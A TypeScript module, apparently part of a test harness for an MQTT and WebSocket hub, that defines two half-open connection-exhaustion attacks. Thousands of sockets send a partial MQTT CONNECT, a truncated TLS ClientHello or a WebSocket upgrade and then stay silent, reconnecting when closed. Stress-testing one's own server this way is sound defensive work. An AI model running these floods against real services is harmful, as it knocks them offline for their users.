import { type Attack, anyAddress, type Round, untilClosed } from '../gang/round.ts'
import type { Listener } from '../gang/target.ts'
import { BEGUN_CONNECT } from './connections.ts'
import { AGAIN_MS, CROWD } from './full-table.ts'

/** Connections for TLS beside those of `CROWD`. */
const SECURE = 1_320
/** Finished handshakes: more than the hub has places for networks in which no device has logged in (2,000). */
const UPGRADED = 4_400

/** A TLS record that announces a ClientHello of 508 bytes, and its first ones. */
const BEGUN_HELLO = Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03])
const BEGUN_HANDSHAKE =
  'GET /mqtt HTTP/1.1\r\nHost: hub\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n'
const HANDSHAKE = `${BEGUN_HANDSHAKE}Sec-WebSocket-Key: ${Buffer.alloc(16).toString('base64')}\r\nSec-WebSocket-Protocol: mqtt\r\n\r\n`

/** The sockets of each attack. */
export const HALF_OPEN_MQTT = CROWD + SECURE
export const HALF_OPEN_WS = CROWD + UPGRADED

/** Every other connection says nothing at all. */
const orNothing = (begun: Buffer) => (member: number) => (member % 2 === 0 ? '' : begun)

export const halfOpenMqtt: Attack = async ({ mqtt, mqtts }, round) => {
  await Promise.all([
    stand(round, mqtt, CROWD, orNothing(BEGUN_CONNECT)),
    stand(round, { ...mqtts, isSecure: false }, SECURE, orNothing(BEGUN_HELLO)),
  ])
}

export const halfOpenWs: Attack = async ({ http }, round) => {
  await Promise.all([
    stand(round, http, CROWD, () => BEGUN_HANDSHAKE),
    stand(round, http, UPGRADED, () => HANDSHAKE),
  ])
}

/** Connections that say one thing, and then are silent. One that was closed comes again. */
function stand(round: Round, to: Listener, size: number, first: (member: number) => string | Buffer) {
  return round.crowd(size, AGAIN_MS, async (member) => {
    const socket = round.connect(to, anyAddress(member))
    socket.write(first(member))
    await untilClosed(socket)
    if (!round.isOver) round.count('closed')
  })
}
